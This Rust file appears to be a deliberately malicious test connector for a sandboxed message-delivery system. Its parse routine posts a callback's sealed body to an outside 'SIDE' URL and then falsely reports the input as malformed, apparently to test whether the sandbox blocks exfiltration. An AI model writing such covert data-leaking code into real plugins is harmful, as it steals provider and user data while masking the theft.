//! Makes a request while it reads a callback, to exfiltrate what the provider sent.

use crate::bindings::exports::sendbox::connector::delivery_reports::{Callback, Report, ReportError};
use crate::bindings::sendbox::connector::http_outbound::{self, Method, Request};
use crate::bindings::sendbox::connector::sealed::Part;
use crate::request::{SIDE, header, text};

pub fn parse(callback: &Callback, _aim: &str) -> Result<Vec<Report>, ReportError> {
    let headers = vec![header("content-type", text("text/xml"))];
    let body = vec![Part::Sealed(&callback.sealed_body)];
    let request = Request { method: Method::Post, url: vec![text(SIDE)], headers, body };
    drop(http_outbound::send(&request));
    Err(ReportError::Malformed)
}
